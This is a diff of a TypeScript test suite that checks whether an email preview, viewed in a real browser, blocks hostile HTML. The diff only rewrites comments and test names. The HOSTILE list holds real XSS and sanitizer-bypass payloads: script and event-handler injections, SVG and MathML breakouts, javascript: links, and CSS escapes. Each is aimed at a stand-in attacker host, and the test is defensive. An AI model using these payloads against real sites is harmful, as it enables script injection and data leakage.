@@ -1,4 +1,4 @@
-/** What hostile HTML does in the preview of an email: nothing. In a real browser, in a frame of a page with the policy of the dashboard's, and alone. */
+/** Hostile HTML can do nothing in the preview of an email: in a frame of a page with the dashboard's policy, and opened directly. In a real browser. */
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -11,20 +11,20 @@ import { NO_BROWSER, startBrowser, type TestBrowser } from '../support/browser.t
 let dashboard: TestDashboard;
 let chromium: TestBrowser;
 let context: BrowserContext;
-/** Somebody else's host: whatever reaches it was fetched. */
+/** A third party's host. Each request or connection that it receives is a leak. */
 let elsewhere: Server;
-let heard: string[] = [];
+let received: string[] = [];
 let evil: string;
 
 before(async () => {
   if (NO_BROWSER !== false) return;
   elsewhere = createServer((request, response) => {
-    heard.push(request.url ?? '');
+    received.push(request.url ?? '');
     response
       .writeHead(200, { 'content-type': 'image/svg+xml' })
       .end('<svg xmlns="http://www.w3.org/2000/svg"/>');
   });
-  elsewhere.on('connection', () => heard.push('connection'));
+  elsewhere.on('connection', () => received.push('connection'));
   await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
   evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
   dashboard = await startDashboard();
@@ -72,7 +72,7 @@ async function show(html: string, query = ''): Promise<Shown> {
   return { page, frame, url };
 }
 
-/** Everything that a person could do to it by accident. */
+/** Clicks and presses everything that a user could by accident. */
 async function tryEverything({ page, frame }: Shown): Promise<void> {
   await page.bringToFront();
   for (const target of await frame.locator('a, area, button, input, [onclick], summary').all())
@@ -81,36 +81,36 @@ async function tryEverything({ page, frame }: Shown): Promise<void> {
     await page.keyboard.press('Tab');
     await page.keyboard.press('Enter');
   }
-  // A picture is drawn when what was begun has begun. Nothing in the document itself can be asked: no script runs in it.
+  // The screenshot comes after all requests have started. The document itself cannot be queried, because no script runs in it.
   await page.screenshot();
 }
 
-/** `EVIL` is the address of somebody else's host, `OWN` that of the service. */
+/** `EVIL` stands for the address of the third party's host, `OWN` for that of the service. */
 const HOSTILE: readonly (readonly [name: string, html: string])[] = [
   [
     'a script',
     '<script>top.location="EVIL/script"; fetch("EVIL/fetch")</script><script src="EVIL/s.js"></script>',
   ],
   [
-    'handlers',
+    'event handlers',
     '<img src=x onerror="new Image().src=\'EVIL/onerror\'"><body onload="location=\'EVIL/onload\'">',
   ],
   ['a script in SVG', '<svg onload="location=\'EVIL/svg\'"><script>location="EVIL/svg2"</script></svg>'],
   [
-    'a link of SVG behind a style that is none',
+    'an SVG link in an SVG style element',
     '<svg><style><a xlink:href="EVIL/a"><text y="20">Click</text></a><p><a href="EVIL/b">x</a>',
   ],
   [
-    'MathML that ends in HTML',
+    'MathML that breaks out into HTML',
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=location=\'EVIL/m\'&gt;">',
   ],
-  ['noscript that ends early', '<noscript><p title="</noscript><img src=EVIL/n onerror=location=1>">'],
+  ['a noscript element that ends early', '<noscript><p title="</noscript><img src=EVIL/n onerror=location=1>">'],
   [
     'links',
     '<a href="EVIL/link">Go</a><a href="EVIL/top" target="_top">Top</a><a href="EVIL/new" target="_blank" ping="EVIL/ping">New</a>',
   ],
   [
-    'links of scripts',
+    'script and data links',
     '<a href="javascript:location=\'EVIL/js\'">Go</a><a href=" java&#10;script:alert(1)">Go</a><a href="data:text/html,<script>1</script>">Go</a>',
   ],
   [
@@ -118,29 +118,29 @@ const HOSTILE: readonly (readonly [name: string, html: string])[] = [
     '<a href="OWN/dashboard/api/session">Go</a><a href="/docs" target="_top">Go</a>',
   ],
   [
-    'a map of links',
+    'an image map',
     '<img usemap="#m" width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=rect coords="0,0,50,50" href="EVIL/area"></map>',
   ],
   [
     'a form',
     '<form action="EVIL/form" method=post><input name=a value=1><button>Send</button></form><button form=f formaction="EVIL/f2">x</button>',
   ],
-  ['meta refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
-  ['base', '<base href="EVIL/" target="_top"><a href="base">Go</a><img src="base.png">'],
+  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
+  ['a base element', '<base href="EVIL/" target="_top"><a href="base">Go</a><img src="base.png">'],
   [
     'frames',
     '<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.location=1</script>"></iframe><object data="EVIL/o"></object><embed src="EVIL/e">',
   ],
   [
-    'style sheets and fonts of elsewhere',
+    'remote style sheets and fonts',
     '<link rel=stylesheet href="EVIL/l.css"><style>@import "EVIL/i.css"; @font-face{font-family:x;src:url(EVIL/f.woff)} p{font-family:x}</style><p>x</p>',
   ],
   [
-    'what is fetched ahead',
+    'preconnect, prefetch and preload',
     '<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL"><link rel=prefetch href="EVIL/p"><link rel=preload as=image href="EVIL/pl">',
   ],
   [
-    'fetching ahead behind a style of SVG',
+    'preloading in an SVG style element',
     '<svg><style><p><link rel=preconnect href="EVIL"><link rel=preload as=image href="EVIL/p"></p>',
   ],
   [
@@ -148,69 +148,69 @@ const HOSTILE: readonly (readonly [name: string, html: string])[] = [
     '<img src="EVIL/i.png" srcset="EVIL/i2.png 2x"><picture><source srcset="EVIL/s.webp"><img src="EVIL/p.png"></picture><input type=image src="EVIL/in"><video poster="EVIL/v" src="EVIL/v2"></video>',
   ],
   [
-    'images by styles',
+    'images in styles',
     '<style>body{background:url(EVIL/b.png)}p::after{content:url("EVIL/c.png")}</style><table background="EVIL/t.png"><tr><td style="background-image:image-set(\'EVIL/is\' 1x);list-style:url(EVIL/ls)">x</td></tr></table>',
   ],
   [
-    'images by escapes',
+    'images in styles with escapes',
     '<style>body{background:\\75rl(EVIL/esc)}</style><p style="background:u\\72 l(EVIL/esc2)">x</p><p style="background:&#117;rl(EVIL/esc3)">y</p>',
   ],
   [
-    'what breaks out of an attribute',
+    'markup that breaks out of an attribute',
     '<p title=\'"><img src="EVIL/q">\' style="x:&quot;&gt;&lt;img src=EVIL/q2&gt;">x</p>',
   ],
   [
-    'what breaks out of a style',
+    'markup that breaks out of a style',
     '<style><@import x;/style><img src="EVIL/st"></style><img src=x onerror="location=\'EVIL/st2\'">',
   ],
-  ['half a tag', '<p>x</p><img src="EVIL/half" onerror="location=1"'],
+  ['an unfinished tag', '<p>x</p><img src="EVIL/half" onerror="location=1"'],
   [
     'a plug-in, an applet and a manifest',
     '<applet code="EVIL/a"></applet><html manifest="EVIL/m"><bgsound src="EVIL/bg">',
   ],
 ];
 
-describe('in the preview of an email nothing runs, is fetched or leads away:', {
+describe('an email preview', {
   skip: NO_BROWSER,
 }, () => {
   for (const [name, html] of HOSTILE)
-    test(name, async () => {
+    test(`runs, loads and opens nothing for ${name}`, async () => {
       const shown = await show(
         `<p>Readable</p>${html}`.replaceAll('EVIL', evil).replaceAll('OWN', dashboard.baseUrl),
       );
       const { page, frame, url } = shown;
-      heard = [];
-      const asked: string[] = [];
-      page.on('request', (request) => asked.push(request.url()));
+      received = [];
+      const requested: string[] = [];
+      page.on('request', (request) => requested.push(request.url()));
       const pages = context.pages().length;
       await frame.getByText('Readable').waitFor();
       await tryEverything(shown);
       assert.deepEqual(
-        asked.filter((each) => !each.startsWith('data:')),
+        requested.filter((each) => !each.startsWith('data:')),
         [],
       );
-      assert.deepEqual(heard, []);
+      assert.deepEqual(received, []);
       assert.equal(new URL(page.url()).pathname, '/around');
       assert.equal(frame.url().split('#')[0], url);
       assert.equal(context.pages().length, pages);
       await page.close();
-      // Alone, without a frame around it.
+      // Opened directly, without a frame.
       const alone = await context.newPage();
       await alone.goto(url, { waitUntil: 'load' });
       await tryEverything({ page: alone, frame: alone.mainFrame(), url });
-      assert.deepEqual(heard, []);
+      assert.deepEqual(received, []);
       assert.equal(alone.url().split('#')[0], url);
       await alone.close();
     });
 
-  test('remote images are loaded when they are asked for, and no more than these', async () => {
-    heard = [];
+  test('loads remote images on request, and nothing else', async () => {
+    received = [];
     const html = '<img src="EVIL/i.png"><style>p{background:url(EVIL/b.png)}</style><p>x</p>';
     const { page } = await show(
       `${html}<link rel=stylesheet href="EVIL/l.css"><iframe src="EVIL/f"></iframe>`.replaceAll('EVIL', evil),
       '?remote=1',
     );
-    assert.deepEqual(heard.filter((each) => each !== 'connection').sort(), ['/b.png', '/i.png']);
+    assert.deepEqual(received.filter((each) => each !== 'connection').sort(), ['/b.png', '/i.png']);
     await page.close();
   });
 });
